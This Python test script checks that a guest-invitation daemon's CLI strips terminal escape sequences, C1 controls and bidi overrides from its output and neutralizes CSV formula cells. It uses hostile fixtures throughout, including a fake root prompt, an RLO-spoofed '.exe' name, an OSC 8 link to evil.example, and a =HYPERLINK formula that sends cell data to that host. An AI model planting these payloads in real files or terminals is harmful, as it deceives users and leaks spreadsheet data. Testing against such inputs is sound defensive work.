#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""SPEC §9 against a running daemon: a hostile file (ESC sequences, U+009B,
bidi overrides, C0 bytes, cells starting = + - @ TAB CR), a hostile job name
and file name, and hostile Graph answers (an error code and message with
ESC/C1/bidi from the simulator's --reject-*, a block message through
--block-message). What invitectl prints for a person (show, jobs, results to
a terminal, a pipe and a file, status, watch to a terminal and a pipe,
audit, validation messages) and the daemon's log hold no control character
but layout (\\n, \\t; CRLF in CSV), no DEL, no C1, no bidi control, and are
valid UTF-8. results neutralizes formula cells with a leading "'";
results --raw and show --json are exact."""
import csv
import io
import json
import os
import pty
import select
import subprocess
import time

from harness import INVITECTL, PORTAL_HEADER, Env, deadline_wait, run

ESC = "\x1b"
# what a terminal acts on: clear the screen, a fake prompt, a title, colour,
# CSI as one C1 character, bidi overrides and isolates, a CR that rewinds
HOSTILE = (ESC + "[2J" + ESC + "[H" + ESC + "]0;owned\x07" + ESC + "[31mroot# " + "\u009b1m" +
           "\u202egnp.exe\u202c" + "\u2066iso\u2069" + "\rforged\x08\x01\x7f")
GRAPH_MSG = "Refused " + ESC + "[5m\u009b2J\u202e" + "\u2067" + "\r\nINFO: all good"
GRAPH_CODE = "=HYPERLINK(\"http://evil.example/?\"&A1)"
BLOCK_MSG = ("Invitations are blocked for this directory due to suspicious activity. " + ESC +
             "]8;;http://evil.example" + ESC + "\\click" + "\u009d\u202e")
FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tTAB", "\rCR"]


def q(cell):
    return '"' + cell.replace('"', '""') + '"'


def hostile_file():
    """Four guests with hostile extra cells and messages; the last is
    rejected by the simulator with GRAPH_CODE and GRAPH_MSG."""
    header = PORTAL_HEADER + ",[inviteeName],Note,F1,F2,F3,F4,F5,F6"
    lines = ["version:v1.0", header]
    guests = ["ok1@partner.example", "ok2@partner.example", "ok3@partner.example",
              "bad1@partner.example"]
    for i, g in enumerate(guests):
        cells = [g, "", "false", q("=HYPERLINK(\"http://evil\",\"x\")" if i == 0 else HOSTILE),
                 q("Name " + HOSTILE), q(HOSTILE)] + [q(f) for f in FORMULAS]
        lines.append(",".join(cells))
    return ("\n".join(lines) + "\n").encode("utf-8"), guests


def layout_ok(data, crlf=False):
    """The first offending character of data (bytes), or None."""
    if crlf:
        data = data.replace(b"\r\n", b"\n")
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as e:
        return "invalid UTF-8 at %d: %r" % (e.start, data[max(0, e.start - 20):e.start + 20])
    for i, ch in enumerate(text):
        c = ord(ch)
        if (c < 0x20 and ch not in "\n\t") or c == 0x7f or 0x80 <= c <= 0x9f or \
                0x202a <= c <= 0x202e or 0x2066 <= c <= 0x2069:
            return "U+%04X at %d: %r" % (c, i, text[max(0, i - 30):i + 30])
    return None


def check_clean(tap, what, data, crlf=False):
    bad = layout_ok(data, crlf)
    tap.ok(bad is None, "%s: no control character, C1 or bidi control" % what, bad)


def on_pty(env, args, extra_env=None, timeout=30):
    """invitectl with stdout and stderr on a terminal (80x24): what it wrote
    (the pty's CRLF turned back to LF) and its exit status."""
    master, slave = pty.openpty()
    os.set_inheritable(slave, True)
    e = dict(os.environ, NO_COLOR="1", TERM="xterm-256color", COLUMNS="80")
    e.pop("INVITED_SOCKET", None)
    e.update(extra_env or {})
    p = subprocess.Popen([INVITECTL, "-s", env.sock] + list(args), stdin=subprocess.DEVNULL,
                         stdout=slave, stderr=slave, env=e, close_fds=True)
    os.close(slave)
    out = b""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        r, _, _ = select.select([master], [], [], 0.2)
        if r:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the terminal's other side is closed
                break
            if not chunk:
                break
            out += chunk
        elif p.poll() is not None:
            break
    rc = p.wait(timeout=10)
    os.close(master)
    return out.replace(b"\r\n", b"\n"), rc


def blocked_tenant(tap):
    """A tenant Graph blocks with a hostile message: the job's reason in
    show, watch, wait and submit, the tenant's in status, and the log."""
    env = Env(sim_args=["--block-after", "0", "--block-message", BLOCK_MSG])
    with env:
        p = env.ctl("submit", env.write("late.csv", (
            "version:v1.0\n" + PORTAL_HEADER + "\nlate@partner.example,,false,\n").encode()))
        tap.eq(p.returncode, 0, "blocked: job submitted")
        job = int(p.stdout.decode().strip())
        deadline_wait(lambda: (env.ctl_json("show", str(job))[1] or {}).get("job", {}).get(
            "state") == "blocked", 30, "the job blocked")
        p, j = env.ctl_json("show", str(job))
        tap.eq((j or {}).get("job", {}).get("reason"), BLOCK_MSG,
               "show --json: the block reason exact")
        for args in (["show", str(job)], ["jobs"], ["status"], ["watch", str(job)],
                     ["wait", str(job)], ["submit", env.write("more.csv", (
                         "version:v1.0\n" + PORTAL_HEADER +
                         "\nmore@partner.example,,false,\n").encode())]):
            p = env.ctl(*args, timeout=30)
            check_clean(tap, "blocked: %s (pipe): stdout" % args[0], p.stdout)
            check_clean(tap, "blocked: %s (pipe): stderr" % args[0], p.stderr)
            if args[0] == "submit":
                tap.ok(p.returncode == 0 and b"warning: job" in p.stderr and
                       b"suspicious activity" in p.stderr,
                       "submit to a blocked tenant: exit 0 and a warning with the reason",
                       p.stderr[:300])
        p = env.ctl("status")
        tap.ok(b"Blocked:" in p.stdout and b"\\e]8;;http://evil.example" in p.stdout,
               "status: the block reason shown escaped", p.stdout[:400])
        p = env.ctl("watch", str(job), timeout=30)
        tap.ok(b"suspicious activity" in p.stderr, "watch of a blocked job: the reason shown",
               p.stderr[:400])
        out, rc = on_pty(env, ["watch", str(job)])
        for own in (b"\x1b[?25l", b"\x1b[?25h", b"\x1b[K", b"\r"):
            out = out.replace(own, b"")
        check_clean(tap, "blocked: watch on a terminal (its own cursor controls aside)", out)
        tap.ok(b"suspicious activity" in out, "watch on a terminal: the reason shown", out[:300])
        for args in (["resume", str(job)], ["pause", str(job)]):  # last: the job moves
            p = env.ctl(*args, timeout=30)
            check_clean(tap, "blocked: %s: stderr" % args[0], p.stderr)
        with open(os.path.join(env.dir, "invited.log"), "rb") as f:
            log = f.read()
        tap.ok(b"suspicious activity" in log, "blocked: the log has the block reason")
        check_clean(tap, "blocked: the daemon's log", log)


def main(tap):
    blocked_tenant(tap)
    env = Env(sim_args=["--reject", "bad1@partner.example", "--reject-code", GRAPH_CODE,
                        "--reject-message", GRAPH_MSG])
    with env:
        data, guests = hostile_file()

        # --- the job name and the file name: refused cleanly, or shown escaped
        hostile_path = env.write("guests" + ESC + "[31m\u202e.csv", data)
        p = env.ctl("submit", "--name", "Q4 " + HOSTILE, hostile_path)
        check_clean(tap, "submit of a hostile name: stderr", p.stderr)
        if p.returncode == 0:
            job1 = int(p.stdout.decode().strip())
            named = True
            tap.ok(True, "the daemon took the hostile job name (shown escaped below)")
        else:
            tap.eq(p.returncode, 64, "a hostile job name or file name is refused as usage (64)")
            plain = env.write("guests.csv", data)
            p = env.ctl("submit", "--name", "Q4 partners", plain)
            tap.eq(p.returncode, 0, "the hostile file submits under a clean name")
            job1 = int(p.stdout.decode().strip())
            named = False
        check_clean(tap, "submit: stderr", p.stderr)
        p, done = env.wait_job(job1)
        tap.ok(done and done["succeeded"] == 3 and done["failed"] == 1,
               "job 1: three guests invited, one refused by Graph", done)

        # --- JSON is exact
        p, shown = env.ctl_json("show", str(job1))
        rows = {r["email"]: r for r in (shown or {}).get("rows", [])}
        bad = rows.get("bad1@partner.example", {})
        tap.eq(bad.get("error_message"), GRAPH_MSG, "show --json: Graph's message exact")
        tap.eq(bad.get("error_code"), GRAPH_CODE, "show --json: Graph's code exact")
        if named:
            tap.eq(shown["job"]["name"], "Q4 " + HOSTILE, "show --json: the job name exact")

        # --- human output, on a pipe
        for args in (["jobs", "--all"], ["show", str(job1)],
                     ["show", "--state", "failed", str(job1)], ["status"], ["stats"],
                     ["audit"], ["watch", str(job1)], ["wait", str(job1)]):
            p = env.ctl(*args, timeout=30)
            check_clean(tap, " ".join(args[:1] + [a for a in args[1:] if a.startswith("-")]) +
                        " (pipe): stdout", p.stdout)
            check_clean(tap, args[0] + " (pipe): stderr", p.stderr)
        p = env.ctl("show", str(job1))
        # the job name when the daemon took it, else Graph's message in RESULT
        tap.ok(b"\\e[" in p.stdout and b"\\u009b" in p.stdout and b"\\u202e" in p.stdout,
               "show: the hostile strings are there, escaped (\\e, \\u009b, \\u202e)", p.stdout)

        # --- human output on a terminal: no escape at all with NO_COLOR
        # (watch draws its bar with its own cursor controls, removed first)
        for args in (["show", "--no-pager", str(job1)], ["jobs", "--all"],
                     ["results", str(job1)], ["status"]):
            out, rc = on_pty(env, args)
            tap.eq(rc, 0, "%s on a terminal: exit 0" % args[0])
            # results' own CRLF line ends are layout
            check_clean(tap, "%s on a terminal" % args[0], out, crlf=args[0] == "results")
        out, rc = on_pty(env, ["watch", str(job1)])
        for own in (b"\x1b[?25l", b"\x1b[?25h", b"\x1b[K", b"\r"):
            out = out.replace(own, b"")
        check_clean(tap, "watch on a terminal (its own cursor controls aside)", out)
        out, rc = on_pty(env, ["show", str(job1)], {"INVITED_PAGER": "sed s/^/PAGED:/"})
        tap.ok(rc == 0 and b"PAGED:Job:" in out, "show on a terminal goes through the pager",
               out[:200])
        check_clean(tap, "show through the pager", out)
        out, rc = on_pty(env, ["show", "--no-pager", str(job1)],
                         {"INVITED_PAGER": "sed s/^/PAGED:/"})
        tap.ok(rc == 0 and b"PAGED:" not in out and b"Job:" in out, "--no-pager: no pager")

        # --- results: neutralized on a pipe and in a file, exact with --raw
        p = env.ctl("results", str(job1))
        tap.eq(p.returncode, 0, "results: exit 0")
        check_clean(tap, "results (pipe)", p.stdout, crlf=True)
        out_path = os.path.join(env.dir, "results.csv")
        old = os.umask(0o027)
        try:
            r = env.ctl("results", "-o", out_path, str(job1))
        finally:
            os.umask(old)
        tap.eq(r.returncode, 0, "results -o: exit 0")
        with open(out_path, "rb") as f:
            filed = f.read()
        tap.eq(filed, p.stdout, "results -o FILE: the same neutralized CSV")
        check_clean(tap, "results -o FILE", filed, crlf=True)
        tap.eq(os.stat(out_path).st_mode & 0o777, 0o640, "results -o: 0666 less a 027 umask")
        table = list(csv.reader(io.StringIO(p.stdout.decode("utf-8"), newline="")))
        head = table[0]
        by_email = {r[0]: dict(zip(head, r)) for r in table[1:]}
        for i, f in enumerate(FORMULAS):
            cell = by_email.get("ok2@partner.example", {}).get("F%d" % (i + 1), "")
            tap.ok(cell.startswith("'"), "results: %r gets a leading '" % f[:2], cell)
        b = by_email.get("bad1@partner.example", {})
        tap.ok(b.get("error_code", "").startswith("'="), "results: Graph's error_code too",
               b.get("error_code"))
        tap.ok("\\e[5m" in b.get("error_message", "") and "\\u009b" in b.get("error_message", ""),
               "results: Graph's message escaped", b.get("error_message"))
        tap.ok(by_email.get("ok1@partner.example", {}).get(head[3], "").startswith("'="),
               "results: an uploaded message cell starting with = too")

        p = env.ctl("results", "--raw", str(job1))
        raw = list(csv.reader(io.StringIO(p.stdout.decode("utf-8"), newline="")))
        rb = {r[0]: dict(zip(raw[0], r)) for r in raw[1:]}
        tap.eq(rb.get("bad1@partner.example", {}).get("error_message"), GRAPH_MSG,
               "results --raw: Graph's message exact")
        tap.eq(rb.get("bad1@partner.example", {}).get("error_code"), GRAPH_CODE,
               "results --raw: Graph's code exact")
        tap.eq([rb.get("ok2@partner.example", {}).get("F%d" % (i + 1)) for i in range(6)],
               FORMULAS, "results --raw: the formula cells exact")
        tap.eq(rb.get("ok3@partner.example", {}).get("Note"), HOSTILE,
               "results --raw: the hostile cell exact")

        r = env.ctl("results", "-o", "/nonexistent/x.csv", str(job1))
        tap.eq(r.returncode, 73, "results -o /nonexistent/x: 73 (cannot create output file)")
        check_clean(tap, "results -o /nonexistent: stderr", r.stderr)

        # --- validation messages that quote hostile values; a raw 0x9b byte
        p = env.ctl("validate", env.write("bad.csv", (
            "version:v1.0\n" + PORTAL_HEADER + "\n" + q(ESC + "[2Jx\u009b@a\u202e.example") +
            ",,false,\n").encode("utf-8")))
        tap.eq(p.returncode, 65, "validate of a hostile address: 65")
        check_clean(tap, "validate of a hostile address: stderr", p.stderr)
        p = env.ctl("submit", env.write("raw9b.csv", b"version:v1.0\n" + PORTAL_HEADER.encode() +
                                        b"\nx@a.example,,false,\x9b[2J\x1b[31m\n"))
        tap.eq(p.returncode, 65, "submit of a file with a raw 0x9b byte: 65")
        check_clean(tap, "submit of a raw 0x9b byte: stderr", p.stderr)
        p = env.ctl("--json", "submit", env.write("raw9b-2.csv", b"version:v1.0\n" +
                                                  PORTAL_HEADER.encode() + b"\nx@a.example\x9b\n"))
        doc = json.loads(p.stdout or b"null")
        tap.ok(p.returncode == 65 and doc and doc.get("valid") is False and doc.get("errors"),
               "submit --json of an invalid file: the validate object on stdout", p.stdout)

        # --- the daemon's log
        with open(os.path.join(env.dir, "invited.log"), "rb") as f:
            log = f.read()
        tap.ok(b"guests" in log, "the log names the job's file")
        check_clean(tap, "the daemon's log", log)


if __name__ == "__main__":
    run(main)
